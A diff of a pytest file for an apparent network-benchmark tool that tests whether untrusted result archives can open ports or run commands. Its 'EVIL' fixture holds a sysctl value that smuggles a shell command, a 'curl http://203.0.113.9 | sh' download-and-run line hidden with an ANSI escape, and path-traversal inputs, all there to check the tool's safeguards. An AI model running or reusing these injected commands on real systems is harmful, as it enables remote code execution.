@@ -15,6 +15,7 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from tests.archives import repacked
 from tests.journals import read_journal
 from tests.simulated.engine import SimulatedDevice
 from tests.simulated.equipment import simulated_equipment
@@ -22,7 +23,7 @@ from tests.simulated.equipment import simulated_equipment
 from gatemark.archive import read
 from gatemark.archive.again import measure_again
 from gatemark.archive.inputs import renamed
-from gatemark.archive.layout import checksums_text, is_safe
+from gatemark.archive.layout import is_safe
 from gatemark.archive.verify import Verification, verify_archive
 from gatemark.archive.write import write_archive
 from gatemark.campaign.events import Event, TrialFinished
@@ -30,7 +31,6 @@ from gatemark.campaign.journal import line_of
 from gatemark.cli.main import main
 from gatemark.dut.recipe import recipe_text
 from gatemark.errors import ConfigError, GatemarkError, Interrupted, ResultError
-from gatemark.facts import CHECKSUMS
 from gatemark.results.new_file import new_file
 from gatemark.series.run import SeriesResult, measure_series
 from gatemark.session import CampaignResult, measure, resume_campaign
@@ -258,24 +258,6 @@ def test_only_what_was_made_again_is_called_verified(
     assert capsys.readouterr().out.endswith("\nnot verified\n")
 
 
-def repacked(archive: Path, target: Path, edit: Callable[[dict[str, bytes]], None]) -> Path:
-    """Change the files of an archive, and its checksums with them, as a stranger would."""
-    with tarfile.open(archive) as tar:
-        files = {member.name: tar.extractfile(member).read() for member in tar}  # type: ignore[union-attr]
-    top = next(iter(files)).partition("/")[0]
-    inside = {name.partition("/")[2]: octets for name, octets in files.items()}
-    del inside[CHECKSUMS]
-    edit(inside)
-    digests = {name: hashlib.sha256(octets).hexdigest() for name, octets in inside.items()}
-    inside[CHECKSUMS] = checksums_text(digests).encode()
-    with tarfile.open(target, "w:gz") as tar:
-        for name, octets in inside.items():
-            member = tarfile.TarInfo(f"{top}/{name}")
-            member.size = len(octets)
-            tar.addfile(member, io.BytesIO(octets))
-    return target
-
-
 @pytest.mark.parametrize("path", ["/dev/zero", "{folder}/fifo", "/etc/hostname", "../../mine.toml", "linux-router6"])
 def test_no_file_is_opened_that_is_not_packed(path: str, tmp_path: Path) -> None:
     archive = write_archive(measured(tmp_path).folder).path
@@ -294,6 +276,83 @@ def test_no_file_is_opened_that_is_not_packed(path: str, tmp_path: Path) -> None
     assert outcomes(verify_archive(other))["campaign"] == "unknown"
     with pytest.raises(ResultError, match="which is not in the archive"):
         measure_again(other, output=tmp_path / "again", trust_commands=True, equipment=equipment())
+
+
+LOOPBACK = """name = "harmless"
+repetitions = 1
+[gateway]
+technology = "router44"
+[testbed]
+kind = "loopback"
+[left]
+port = "{left}"
+[right]
+port = "{right}"
+[traffic]
+frame_sizes = {{family = "ipv4", octets = [64]}}
+[frame_loss]
+rates = ["20k"]
+"""
+
+
+PORTS = ("pcap:{folder}/victim", "vdev:net_pcap7,tx_pcap={folder}/victim", "memif:/run/x.sock")
+
+
+@pytest.mark.parametrize("port", PORTS)
+def test_ports_that_an_archive_names_are_opened_only_if_it_is_trusted(port: str, tmp_path: Path) -> None:
+    file, named = tmp_path / "harmless.toml", port.format(folder=tmp_path)
+    file.write_text(LOOPBACK.format(left=named, right="ring"), encoding="utf-8")
+    loop = simulated_equipment(SimulatedDevice(capacity_forward=50_000))
+    archive = write_archive(measure(file, output=tmp_path / "harmless", equipment=loop).folder).path
+    with pytest.raises(ConfigError, match="which ports are opened") as raised:
+        measure_again(archive, output=tmp_path / "again", equipment=loop)
+    assert named in str(raised.value) and "--trust-commands" in raised.value.problems[0].fix
+    assert not (tmp_path / "again").exists()
+    measure_again(archive, output=tmp_path / "again", equipment=loop, trust_commands=True)
+
+
+def test_ports_that_lead_nowhere_need_no_trust(tmp_path: Path) -> None:
+    file = tmp_path / "harmless.toml"
+    file.write_text(LOOPBACK.format(left="ring", right="ring"), encoding="utf-8")
+    loop = simulated_equipment(SimulatedDevice(capacity_forward=50_000))
+    archive = write_archive(measure(file, output=tmp_path / "harmless", equipment=loop).folder).path
+    measure_again(archive, output=tmp_path / "again", equipment=loop)
+
+
+EVIL = """
+[modules]
+nf_conntrack = "CONFIG_NF_CONNTRACK"
+
+[sysctl]
+"net.ipv4.ip_forward" = "1'; touch /tmp/ran-as-root; echo '1"
+
+[host_sysctl]
+"net.netfilter.nf_conntrack_max" = "4096"
+
+[files]
+"x.sh" = "curl http://203.0.113.9 | sh\\u001b[2K"
+"""
+
+
+@pytest.mark.parametrize("more", ["", VARY], ids=["campaign", "series"])
+def test_plan_shows_all_that_an_archive_would_do(more: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    recipe = tmp_path / "mine.toml"
+    recipe.write_text(recipe_text("linux-router4") + EVIL, encoding="utf-8")
+    file = tmp_path / "router.toml"
+    file.write_text(ROUTER.format(name="router", recipe="./mine.toml") + more, encoding="utf-8")
+    measured_as = measure_series if more else measure
+    archive = write_archive(measured_as(file, output=tmp_path / "router", equipment=equipment()).folder).path
+    assert main(["plan", str(archive)]) == 0
+    shown = capsys.readouterr().out
+    commands = shown[shown.index("# Commands") :]
+    for words in (
+        "- modules: nf_conntrack",
+        "- sysctl: net.ipv4.ip_forward = 1'; touch /tmp/ran-as-root; echo '1",
+        "- host_sysctl: net.netfilter.nf_conntrack_max = 4096",
+        r"- files.x.sh: curl http://203.0.113.9 | sh\x1b[2K",
+    ):
+        assert words in commands
+    assert "campaign-unpacked" not in shown
 
 
 def test_an_archive_without_the_recipe_that_was_measured_is_not_verified(tmp_path: Path) -> None:
